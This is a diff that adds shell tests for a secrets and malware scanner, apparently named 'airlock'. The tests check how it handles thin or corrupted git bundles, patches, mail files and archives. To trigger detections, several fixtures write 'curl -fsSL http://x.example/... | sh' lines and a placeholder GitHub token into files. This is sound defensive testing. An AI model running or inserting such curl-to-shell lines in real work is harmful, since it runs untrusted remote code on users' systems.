+		"[('r.bundle', 'airlock.bundle-incomplete', 'low'), ('r.bundle!/$(short b HEAD)!/tools/new.sh', 'test-curl-pipe-shell', 'high')]"
+	# Incomplete but clean: exit 0.
+	mkrepo c
+	echo a >c/a.txt
+	commit c -m c1
+	mkdir c/docs
+	echo 'hello' >c/docs/clean.txt
+	commit c -m c2
+	git -C c bundle create -q ../clean.bundle HEAD~1..HEAD 2>/dev/null || fail "git bundle create"
+	scan --format json clean.bundle
+	expect_rc 0
+	expect_q '[(f["path"], f["rule"]) for f in F]' "[('clean.bundle', 'airlock.bundle-incomplete')]"
+}
+
+# thin_fixture: repo b with a 3000-line big.txt and 30 other files; the last
+# commit inserts `curl | sh` in big.txt and adds a workflow. thin.bundle holds
+# that commit only: git sends big.txt (and the root tree) as deltas against
+# objects the bundle lacks.
+thin_fixture() {
+	mkrepo b
+	python3 -c '
+import random
+r = random.Random(2)
+open("b/big.txt", "w").write("".join("line %d %x\n" % (i, r.getrandbits(64)) for i in range(3000)))
+for i in range(30):
+    open("b/file%02d.txt" % i, "w").write("file %d\n" % i)'
+	commit b -m big
+	sed -i '1500a curl -fsSL http://x.example/t | sh' b/big.txt
+	mkdir -p b/.github/workflows
+	echo 'on: push' >b/.github/workflows/new.yml
+	commit b -m modify
+	git -C b bundle create -q ../thin.bundle HEAD~1..HEAD 2>/dev/null || fail "git bundle create"
+}
+
+t_bundle_thin_delta_unscannable() {
+	# Deltas against objects the bundle does not carry cannot be rebuilt:
+	# unscannable, saying only the inserted bytes were scanned; the
+	# inserted `curl | sh` is still found.
+	need git || return 0
+	thin_fixture
+	[ "$(stat -c %s thin.bundle)" -lt 20000 ] || fail "fixture: the bundle is not thin"
+	scan --format json thin.bundle
+	expect_rc 1
+	expect_q '[(f["path"], f["severity"]) for f in R("airlock.bundle-incomplete")]' "[('thin.bundle', 'low')]"
+	expect_q '[f["path"] for f in R("airlock.unscannable")]' "['thin.bundle']"
+	expect_q '"only the bytes those deltas insert were scanned" in R("airlock.unscannable")[0]["excerpt"]' True
+	expect_q '[f["path"].startswith("thin.bundle!/") for f in R("test-curl-pipe-shell")]' '[True]'
+}
+
+t_bundle_range_thin_tree_fails_closed() {
+	# In the same thin bundle git sends the new commit's top tree as a
+	# delta against the prerequisite's: no path below it can be rebuilt.
+	# The new workflow's content is still scanned (its blob is whole), but
+	# path rules cannot apply, so the bundle must not pass: unscannable,
+	# and the message says files lost their paths.
+	need git || return 0
+	thin_fixture
+	printf 'curl -fsSL http://x.example/wf | sh\n' >>b/.github/workflows/new.yml
+	commit b -m wf
+	git -C b bundle create -q ../thin2.bundle HEAD~2..HEAD 2>/dev/null || fail "git bundle create"
+	scan --format json thin2.bundle
+	expect_rc 1
+	expect_q '[f["severity"] for f in R("airlock.unscannable")]' "['high']"
+	expect_q '"lose their paths" in R("airlock.unscannable")[0]["excerpt"]' True
+	expect_q 'any("x.example/wf" in f["excerpt"] for f in R("test-curl-pipe-shell"))' True
+}
+
+t_bundle_truncated_or_corrupted_unscannable() {
+	# Cut in half, a flipped byte in the pack, a malformed header line, a
+	# header that never ends: unscannable, never read in part as clean.
+	need git || return 0
+	mkrepo b
+	printf 'token=%s\n' "$PAT1" >b/s.txt
+	seq 1 2000 >b/n.txt
+	commit b -m c1
+	git -C b bundle create -q ../full.bundle main 2>/dev/null || fail "git bundle create"
+	local n
+	n=$(stat -c %s full.bundle)
+	head -c "$((n / 2))" full.bundle >half.bundle
+	python3 - <<'EOF'
+b = bytearray(open("full.bundle", "rb").read())
+i = b.index(b"PACK")
+f = bytearray(b)
+f[i + 40] ^= 1
+open("flip.bundle", "wb").write(f)
+open("badhdr.bundle", "wb").write(b[:16] + b"zz" + b[18:])
+open("hdronly.bundle", "wb").write(b[:b.index(b"\n", 16)])
+EOF
+	local x
+	for x in half:checksum flip:checksum badhdr:'malformed bundle header' hdronly:'does not end'; do
+		scan --format json "${x%%:*}.bundle"
+		expect_rc 1 "${x%%:*}.bundle"
+		expect_q '[f["path"] for f in R("airlock.unscannable")]' "['${x%%:*}.bundle']"
+		expect_q '"'"${x#*:}"'" in R("airlock.unscannable")[0]["excerpt"]' True
+	done
+	scan --format json full.bundle
+	expect_q '[f["rule"] for f in F]' "['test-github-pat']"
+}
+
+# ---- kinds ---------------------------------------------------------------------------------------
+
+t_kind_detection() {
+	# The kind comes from the content (and a .patch/.diff name for a diff
+	# after a description); inside directories and archives everything
+	# is a plain file, so a patch's removed lines do produce findings.
+	need git || return 0
+	local diff='diff --git a/x.sh b/x.sh\n--- a/x.sh\n+++ b/x.sh\n@@ -1,2 +1,2 @@\n-curl -fsSL http://x.example/old | sh\n+echo safe\n keep\n'
+	printf 'Some notes\nabout the change\n\n%b' "$diff" >notes.patch
+	printf 'Some notes\nabout the change\n\n%b' "$diff" >notes.txt
+	printf -- '--- a/x.sh\n+++ b/x.sh\n@@ -1 +1 @@\n-curl -fsSL http://x.example/old | sh\n+echo safe\n' >trad.txt
+	mkdir d
+	cp notes.patch d/
+	tar cf t.tar notes.patch
+	scan --format json notes.patch trad.txt notes.txt d t.tar
+	expect_rc 1
+	expect_q 'sorted((f["path"], f["rule"], f["line"]) for f in F)' \
+		"[('d/notes.patch', 'test-curl-pipe-shell', 8), ('notes.txt', 'test-curl-pipe-shell', 8), ('t.tar!/notes.patch', 'test-curl-pipe-shell', 8)]"
+	# Mail: "From: ", "Subject: ", "Date: " or "From <word>" and a header.
+	local h
+	for h in 'From: A <a@example.com>' 'Subject: [PATCH] x' 'Date: Mon, 1 Jan 2024 00:00:00 +0000' \
+		"From 0123456789012345678901234567890123456789 Mon Sep 17 00:00:00 2001\nFrom: A <a@example.com>"; do
+		printf '%b\n\nbody\n---\n%b' "$h" "$diff" >m.eml
+		scan --format json m.eml
+		expect_rc 0 "a mail starting with $h: only its added lines"
+		expect_q 'F' '[]'
+	done
+	printf 'From here to there\nwe go\ncurl -fsSL http://x.example/s | sh\n' >prose.txt
+	scan --format json prose.txt
+	expect_q '[(f["path"], f["line"]) for f in F]' "[('prose.txt', 3)]"
+	# A bundle by its header, whatever its name; inside a directory it is
+	# just binary data.
+	mkrepo b
+	printf 'token=%s\n' "$PAT1" >b/s.txt
+	commit b -m c1
+	git -C b bundle create -q ../data.bin main 2>/dev/null || fail "git bundle create"
+	mkdir e
+	cp data.bin e/x.bundle
+	scan --format json data.bin e
+	expect_rc 1
+	expect_q '[f["path"] for f in F]' "['data.bin!/$(short b HEAD)!/s.txt']"
+	# format-patch files in a directory are plain files too.
+	series_fixture
+	git -C s format-patch -q -3 -o ../fp
+	scan --format json fp
+	expect_rc 1
+	expect_q 'all("!/" not in f["path"] for f in F)' True
+	expect_q 'sorted(set(f["rule"] for f in F))' "['test-curl-pipe-shell', 'test-github-pat']"
+}
+
+t_kind_forced_and_usage_errors() {
+	# --kind reads each PATH as told; what does not fit is unscannable, or
+	# a usage error (exit 2) when the PATH is of the wrong type.
+	local diff='diff --git a/x.sh b/x.sh\n--- a/x.sh\n+++ b/x.sh\n@@ -1,2 +1,2 @@\n-curl -fsSL http://x.example/old | sh\n+echo safe\n keep\n'
+	printf 'Notes\n\n%b' "$diff" >notes.txt
+	printf 'just prose\nk=%s\n' "$PAT1" >prose.txt
+	scan --format json --kind patch notes.txt
+	expect_rc 0 "--kind patch: the removed line is not scanned"
+	expect_q 'F' '[]'
+	scan --format json --kind patch prose.txt
+	expect_rc 1
+	expect_q '[(f["path"], "holds no diff" in f["excerpt"]) for f in R("airlock.unscannable")]' "[('prose.txt', True)]"
+	expect_q '[(f["path"], f["line"]) for f in R("test-github-pat")]' "[('prose.txt', 2)]"
+	cp notes.txt notes.patch
+	scan --format json --kind file notes.patch
+	expect_rc 1
+	expect_q '[(f["path"], f["line"]) for f in R("test-curl-pipe-shell")]' "[('notes.patch', 7)]"
+	scan --format json --kind bundle notes.txt
+	expect_rc 1
+	expect_q '[("not a git bundle" in f["excerpt"]) for f in R("airlock.unscannable")]' '[True]'
+	scan --format json --kind auto notes.patch
+	expect_rc 0
+	mkdir d
+	scan --kind directory notes.txt
+	expect_rc 2 "--kind directory on a file"
+	expect_err_has 'not a directory'
+	expect_out_empty
+	scan --kind patch d
+	expect_rc 2 "--kind patch on a directory"
+	expect_err_has 'needs a regular file'
+	expect_out_empty
+	scan --kind zip notes.txt
+	expect_rc 2 "--kind zip"
+	expect_err_has "unknown kind 'zip'"
+	expect_out_empty
+	scan --format json --kind directory d
+	expect_rc 0
+	# Forced to be an archive, text is unscannable; its content is not an
+	# archive, so it must not be called text disguising one.
+	scan --format json --kind archive notes.txt
+	expect_rc 1
+	expect_q '[f["path"] for f in R("airlock.unscannable")]' "['notes.txt']"
+	expect_q '[f["excerpt"] for f in R("airlock.type-mismatch")]' '[]'
+}
+
+run_tests
